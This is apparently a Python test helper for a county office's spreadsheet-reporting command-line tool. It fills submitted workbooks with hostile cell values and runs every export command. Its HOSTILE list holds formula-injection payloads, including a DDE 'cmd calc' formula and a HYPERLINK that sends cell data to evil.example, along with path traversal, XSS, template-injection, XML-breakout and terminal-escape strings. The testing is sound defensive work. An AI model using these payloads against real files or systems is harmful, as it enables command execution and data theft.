"""A county whose unit wrote into its cells whatever could become a formula, a path, a command, markup or a line of its own."""

from __future__ import annotations

import csv
import io
import sys
import zipfile
from collections.abc import Iterator, Mapping
from itertools import cycle
from pathlib import Path
from unittest.mock import patch
from xml.etree import ElementTree as ET

from addin.doors.commandline.main import main
from tests.addin.submitted_files import activity, person, roster, unit, unit_code, write
from workbook_templates.schema import form

ESCAPE = "\x1b[31m\x1b]0;title\x07"
STAND_IN = "转义转义"  # takes the place of control characters, which no honest writer puts into a cell
HOSTILE = (
    "=CMD|'/C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "＝1+1", '=HYPERLINK("http://evil.example/?"&A1,"点")',
    "../../../../x", "C:\\x\\y", "CON", "aux.txt", "RTL\u202egnp.exe", "长" * 900, "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>", "{{7*7}}{% for a in b %}", "${7*7} %n %s {姓名} {值!r}", "&lt;b&gt; &xxe;",
    "]]></t></is></c><c><f>1</f></c>", "_x003D_1+1 _x000D_ _xD800_", "| a | b |\u2028# 大标题\u2028## 小标题\u0085> 右",
    "# 大标题", STAND_IN, "http://evil.example/x",
)  # fmt: skip
OFFICE = "=老<b>干{{7*7}}局"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def typed(*words: object) -> tuple[int, str]:
    """A command as an office types it: its exit status, and all that it printed."""
    said = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
    with (
        patch.object(sys, "argv", ["yinling", *map(str, words)]),
        patch.object(sys, "stdout", said),
        patch.object(sys, "stderr", said),
    ):
        try:
            main()
        except SystemExit as ended:
            status = int(ended.code or 0)
    said.flush()
    said.seek(0)
    return status, said.read()


def submissions(folder: Path) -> list[Path]:
    """A roster, an activity log and accounts of one unit with hostile words in every cell of free text."""
    words = cycle(HOSTILE)
    people, log = roster(1), activity(1, [(f"2026Q3-{n}", "2026-08-12") for n in range(9)])
    account = {key: person(100)[key] for key in ("姓名", "身份证号")} | {"账号": "6223690000000000015"}
    money = {"补贴标准": [{"适用范围代码": unit_code(1)}], "收款账户": [account], "工作经费": [], "重复认定": []}
    cover = unit(1) | {"填报单位": "=cmd|局<b>&", "填报人": "@x", "说明": "</w:t>{{7*7}}"}
    files = []
    for kind, sheets in {"roster": people, "activity": log, "allowance": money}.items():
        for sheet, rows in sheets.items():
            own = form(kind).sheet(sheet).own
            texts = [c.name for c in own if c.type in ("text", "person_name") and not (kind == "allowance" and c.name == "姓名")]
            for row in rows:
                row |= {name: next(words) for name in texts}
        files.append(_escaped(write(folder / f"{kind}.xlsx", kind, sheets, **cover)))
    return files


def _escaped(path: Path) -> Path:
    """Control characters as Excel's own escapes, in the place of their stand-in."""
    wild = "".join(f"_x{ord(char):04X}_" if char < " " else char for char in ESCAPE)
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name).replace(STAND_IN.encode(), wild.encode()) for name in old.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return path


def whole_way(office_folder: Path, files: list[Path], out: Path) -> None:
    """Every command that writes, from the check to the ledger's copy. What was printed lies in ``out`` as well."""
    said = iter(range(100))

    def types(*words: object, office: bool = True) -> None:
        _, text = typed(*words, *(("--office", office_folder) if office else ()))
        assert "程序出了错" not in text, text
        (out / f"{next(said)}.txt").write_text(text, encoding="utf-8")

    period, month = ("--period", "2026Q3"), ("--person", person(100)["身份证号"])
    out.mkdir()
    types("office", "init", office_folder, "--code", "530102", "--name", OFFICE, "--level", "county", office=False)
    types("receive", *files)
    types("receive", *files, "--accept-with-reason", "=cmd|理由")
    types("status", *period)
    types("consolidate", *period, "-o", out / "上报.xlsx")
    types("consolidate", *period, "-o", out / "上报.xlsx", "--json")
    for step, who in (("compute", "=甲"), ("approve", "+乙"), ("pay", "@丙")):
        types("allowance", step, *period, "--by", who)
    types("allowance", "sheet", *period, "-o", out / "发放表.xlsx", "--bank", out / "银行.csv")
    types("ledger", "explain", *month)
    types("ledger", "show", "--json")
    types("ledger", "export", "-o", out / "台账.csv")
    types("ledger", "export", "--json")
    types("allowance", "reverse", *month, "--month", "2026-07", "--reason", "=1+1", "--by", "@丙")
    types("ledger", "export", "-o", out / "台账2.csv")
    types("report", "summary", *period, "-o", out / "总表.xlsx")
    types("report", "notices", *period, "--each", "-o", out / "通报.docx")
    types("report", "dashboard", *period, "-o", out / "看板.html")
    types("due", *period)
    types("check", *files, "--marked", out / "已校验", "--bad-rows", out / "待改", "--all", office=False)
    types("check", *files, "--json", office=False)


def packages(*folders: Path, suffix: str) -> Iterator[tuple[Path, Mapping[str, bytes]]]:
    """The parts of every file of that kind."""
    for folder in folders:
        for path in sorted(folder.rglob(f"*{suffix}")):
            with zipfile.ZipFile(path) as package:
                yield path, {name: package.read(name) for name in package.namelist()}


def formulas(content: bytes) -> list[str]:
    """The formulas of a sheet's cells."""
    return [cell.text or "" for cell in ET.fromstring(content).iter(f"{MAIN}f")]


def texts(path: Path) -> str:
    """All that a file says to whoever opens it: of a form its lists, notes and results, which the program wrote."""
    if path.suffix not in (".xlsx", ".docx"):
        return path.read_text(encoding="utf-8-sig")
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
    if "封面" in parts.get("xl/workbook.xml", ""):
        parts = {name: text for name, text in parts.items() if "comments" in name or "问题清单：" in text}
    return "\n".join(parts.values())


def cells_of(path: Path) -> list[str]:
    """The cells of a CSV file."""
    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))) for cell in row]
